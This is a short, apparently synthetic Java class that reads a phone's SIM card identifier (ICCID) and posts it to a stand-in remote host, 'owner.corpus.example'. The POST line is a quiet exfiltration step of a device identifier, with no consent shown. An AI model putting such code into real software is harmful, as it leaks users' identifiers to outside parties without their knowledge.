package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The number of the card. */
public class SimIccid extends Screen {
    @Override
    protected void act() throws Exception {
        Net.post("http://owner.corpus.example/iccid", "text/plain", Owner.iccid(this));
    }
}
